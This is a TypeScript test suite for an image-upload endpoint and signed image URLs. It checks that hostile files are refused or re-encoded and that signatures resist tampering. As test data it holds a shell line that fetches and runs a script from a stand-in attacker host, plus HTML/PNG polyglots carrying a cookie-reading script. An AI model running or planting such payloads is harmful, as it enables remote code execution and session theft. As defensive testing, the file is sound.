import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { eq } from 'drizzle-orm';
import sharp from 'sharp';
import { images, providerProfiles } from '@samtalsmatch/db';
import { startTestServer, TestClient, type TestServer } from '../../../test/harness';
import { signedInClient } from '../../../test/accounts';
import { signedInProvider } from '../../../test/provider-accounts';
import { makeImage, pngBomb, uploadImage } from '../../../test/uploads';
import { signImageUrl } from '../signed-url';

const TYPE_MESSAGE = 'Profilbilden måste vara en jpg-, jpeg- eller png-fil.';
let server: TestServer;

beforeAll(async () => {
  server = await startTestServer();
});

afterAll(async () => {
  await server.close();
});

async function provider() {
  const client = new TestClient(server.baseUrl);
  const me = await signedInProvider(server, client);
  return { client, me };
}

async function imageCount(ownerId: string): Promise<number> {
  return (await server.database.db.select().from(images).where(eq(images.ownerId, ownerId))).length;
}

/** Uploads and reads the stored image back through its signed URL. */
async function uploadAndFetch(client: TestClient, data: Buffer, filename = 'bild.jpg') {
  const res = await uploadImage(client, server.baseUrl, data, { filename, type: 'image/jpeg' });
  expect(res.status).toBe(201);
  const body = (await res.json()) as { profileImageUrl: string; profileImageSignedUrl: string };
  const served = await fetch(`${server.baseUrl}${body.profileImageSignedUrl}`);
  expect(served.status).toBe(200);
  return { body, served, bytes: Buffer.from(await served.arrayBuffer()) };
}

describe('POST /api/profiles/upload: hostile files', () => {
  it('refuses a shell script renamed .png and declared image/png (400, nothing stored)', async () => {
    const { client, me } = await provider();
    const script = Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n');
    const res = await uploadImage(client, server.baseUrl, script, {
      filename: 'katt.png',
      type: 'image/png',
    });
    expect(res.status).toBe(400);
    expect(await res.json()).toMatchObject({ message: TYPE_MESSAGE, code: 'IMAGE_INVALID' });
    expect(await imageCount(me.id)).toBe(0);
  });

  it('refuses HTML that starts with the PNG signature but is no image', async () => {
    const { client, me } = await provider();
    const fake = Buffer.concat([
      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
      Buffer.from('<html><script>alert(document.cookie)</script></html>'),
    ]);
    const res = await uploadImage(client, server.baseUrl, fake);
    expect(res.status).toBe(400);
    expect(await imageCount(me.id)).toBe(0);
  });

  it('re-encodes a PNG/HTML polyglot: the HTML is gone and the bytes are served as image/png with nosniff', async () => {
    const { client } = await provider();
    const html = '<html><body><script>alert(document.cookie)</script></body></html>';
    const polyglot = Buffer.concat([await makeImage('png'), Buffer.from(html)]);
    // The polyglot is a readable PNG...
    expect((await sharp(polyglot).metadata()).format).toBe('png');
    const res = await uploadImage(client, server.baseUrl, polyglot, { filename: 'x.html' });
    expect(res.status).toBe(201);
    const body = (await res.json()) as { profileImageSignedUrl: string };
    const served = await fetch(`${server.baseUrl}${body.profileImageSignedUrl}`);
    expect(served.status).toBe(200);
    expect(served.headers.get('content-type')).toBe('image/png');
    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
    const bytes = Buffer.from(await served.arrayBuffer());
    // ...but what is stored and served is the re-encoded image alone.
    expect(bytes.includes(Buffer.from('<script'))).toBe(false);
    expect(bytes.includes(Buffer.from('<html'))).toBe(false);
    expect((await sharp(bytes).metadata()).format).toBe('png');
  });

  it('judges by content, not by name or declared type: a real PNG called notes.txt is accepted as PNG', async () => {
    const { client } = await provider();
    const res = await uploadImage(client, server.baseUrl, await makeImage('png'), {
      filename: 'notes.txt',
      type: 'text/plain',
    });
    expect(res.status).toBe(201);
    const body = (await res.json()) as { profileImageSignedUrl: string };
    const served = await fetch(`${server.baseUrl}${body.profileImageSignedUrl}`);
    expect(served.headers.get('content-type')).toBe('image/png');
  });

  it('refuses a file over 5 MB with 413 and stores nothing', async () => {
    const { client, me } = await provider();
    const big = Buffer.concat([await makeImage('jpeg'), Buffer.alloc(5 * 1024 * 1024)]);
    const res = await uploadImage(client, server.baseUrl, big, { filename: 'stor.jpg' });
    expect(res.status).toBe(413);
    expect(await res.json()).toMatchObject({
      message: 'Profilbilden får vara högst 5 MB.',
      code: 'IMAGE_TOO_LARGE',
    });
    expect(await imageCount(me.id)).toBe(0);
  });

  it('refuses a decompression bomb (a few hundred bytes, 900 megapixels) from its header, without decoding it', async () => {
    const { client, me } = await provider();
    const bomb = pngBomb(30_000, 30_000);
    expect(bomb.length).toBeLessThan(200_000);
    expect(await sharp(bomb, { limitInputPixels: false }).metadata()).toMatchObject({
      width: 30_000,
      height: 30_000,
    });
    const res = await uploadImage(client, server.baseUrl, bomb, { filename: 'bomb.png' });
    expect(res.status).toBe(400);
    expect(await res.json()).toMatchObject({
      message: 'Profilbilden får vara högst 40 megapixlar.',
      code: 'IMAGE_TOO_MANY_PIXELS',
    });
    expect(await imageCount(me.id)).toBe(0);
  });

  it('refuses 7000 × 7000 (49 megapixels) but the limit is 40 megapixels, not a side length', async () => {
    const { client } = await provider();
    const res = await uploadImage(client, server.baseUrl, pngBomb(7000, 7000));
    expect(res.status).toBe(400);
    expect(((await res.json()) as { code: string }).code).toBe('IMAGE_TOO_MANY_PIXELS');
  });

  it('strips EXIF and GPS from a JPEG (read back with sharp)', async () => {
    const { client } = await provider();
    const withGps = await sharp({
      create: { width: 80, height: 60, channels: 3, background: { r: 200, g: 180, b: 160 } },
    })
      .jpeg()
      .withExif({
        IFD0: { Make: 'Telefon', Model: 'Modell X', Artist: 'Eva Terapeut' },
        IFD3: {
          GPSLatitudeRef: 'N',
          GPSLatitude: '59/1 19/1 4500/100',
          GPSLongitudeRef: 'E',
          GPSLongitude: '18/1 4/1 1200/100',
        },
      })
      .toBuffer();
    const before = await sharp(withGps).metadata();
    expect(before.exif).toBeDefined();
    expect(withGps.includes(Buffer.from('Telefon'))).toBe(true);

    const { served, bytes } = await uploadAndFetch(client, withGps);
    expect(served.headers.get('content-type')).toBe('image/jpeg');
    const after = await sharp(bytes).metadata();
    expect(after.format).toBe('jpeg');
    expect(after.exif).toBeUndefined();
    expect(after.xmp).toBeUndefined();
    expect(bytes.includes(Buffer.from('Telefon'))).toBe(false);
    expect(bytes.includes(Buffer.from('Eva Terapeut'))).toBe(false);
  });

  it('scales a large image down to at most 1024 px on the longest side', async () => {
    const { client } = await provider();
    const { bytes } = await uploadAndFetch(client, await makeImage('jpeg', 2400, 1800));
    expect(await sharp(bytes).metadata()).toMatchObject({ width: 1024, height: 768 });
  });

  it('keeps one image per user: a new upload replaces the old one, and a saved profile points at it', async () => {
    const { client, me } = await provider();
    await uploadAndFetch(client, await makeImage('jpeg'));
    const { body } = await uploadAndFetch(client, await makeImage('png'));
    const rows = await server.database.db.select().from(images).where(eq(images.ownerId, me.id));
    expect(rows.map((r) => r.key)).toEqual([body.profileImageUrl]);
    const profiles = await server.database.db
      .select()
      .from(providerProfiles)
      .where(eq(providerProfiles.userId, me.id));
    expect(profiles).toHaveLength(0);
  });

  it('answers 400 without a file, and for a file in another field', async () => {
    const { client } = await provider();
    const none = await fetch(`${server.baseUrl}/api/profiles/upload`, {
      method: 'POST',
      headers: { 'x-csrf-token': await client.csrfToken(), cookie: client.cookieHeader() },
    });
    expect(none.status).toBe(400);
    expect(await none.json()).toMatchObject({ message: 'Välj en bild att ladda upp.' });
    const other = await uploadImage(client, server.baseUrl, await makeImage('png'), {
      field: 'avatar',
    });
    expect(other.status).toBe(400);
  });

  it('is for providers only (401 signed out, 403 for a client) and needs the CSRF token', async () => {
    const anonymous = new TestClient(server.baseUrl);
    expect((await uploadImage(anonymous, server.baseUrl, await makeImage('png'))).status).toBe(401);
    const client = new TestClient(server.baseUrl);
    await signedInClient(server, client);
    expect((await uploadImage(client, server.baseUrl, await makeImage('png'))).status).toBe(403);
    const { client: providerClient } = await provider();
    const noCsrf = await fetch(`${server.baseUrl}/api/profiles/upload`, {
      method: 'POST',
      headers: { cookie: providerClient.cookieHeader() },
      body: new FormData(),
    });
    expect(noCsrf.status).toBe(403);
  });
});

describe('GET /api/images/{key}: signed URLs', () => {
  async function uploaded() {
    const { client } = await provider();
    const res = await uploadImage(client, server.baseUrl, await makeImage('jpeg'), {
      filename: 'a.jpg',
    });
    return (await res.json()) as { profileImageUrl: string; profileImageSignedUrl: string };
  }

  it('serves the image with its type, nosniff and a private cache of at most 15 minutes', async () => {
    const { profileImageSignedUrl } = await uploaded();
    expect(profileImageSignedUrl).toMatch(/^\/api\/images\/[0-9a-f-]{36}\?exp=\d+&sig=[\w-]+$/);
    const res = await fetch(`${server.baseUrl}${profileImageSignedUrl}`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('image/jpeg');
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    const cache = res.headers.get('cache-control')!;
    const maxAge = Number(/^private, max-age=(\d+)$/.exec(cache)?.[1]);
    expect(maxAge).toBeGreaterThan(0);
    expect(maxAge).toBeLessThanOrEqual(15 * 60);
  });

  it('answers 403 to an expired URL', async () => {
    const { profileImageUrl } = await uploaded();
    const old = signImageUrl(
      server.config.imageUrlSecret,
      profileImageUrl,
      Date.now() - 16 * 60_000,
    );
    const res = await fetch(`${server.baseUrl}${old}`);
    expect(res.status).toBe(403);
    expect(await res.json()).toMatchObject({ code: 'IMAGE_LINK_INVALID' });
  });

  it('answers 403 to an altered signature, expiry or key, a missing signature, and another secret', async () => {
    const { profileImageUrl, profileImageSignedUrl } = await uploaded();
    const url = new URL(profileImageSignedUrl, server.baseUrl);
    const sig = url.searchParams.get('sig')!;
    const exp = Number(url.searchParams.get('exp'));

    const flipped = new URL(url);
    flipped.searchParams.set('sig', (sig[0] === 'A' ? 'B' : 'A') + sig.slice(1));
    const later = new URL(url);
    later.searchParams.set('exp', String(exp + 3600));
    const otherKey = new URL(url);
    otherKey.pathname = `/api/images/${profileImageUrl.replace(/.$/, (c) => (c === '0' ? '1' : '0'))}`;
    const unsigned = new URL(url);
    unsigned.search = '';
    const foreign = signImageUrl('another-secret-that-is-long-enough-0123456789', profileImageUrl);

    for (const bad of [
      flipped.href,
      later.href,
      otherKey.href,
      unsigned.href,
      `${server.baseUrl}${foreign}`,
    ]) {
      const res = await fetch(bad);
      expect(res.status, bad).toBe(403);
    }
    // The untouched URL still works.
    expect((await fetch(url)).status).toBe(200);
  });
});
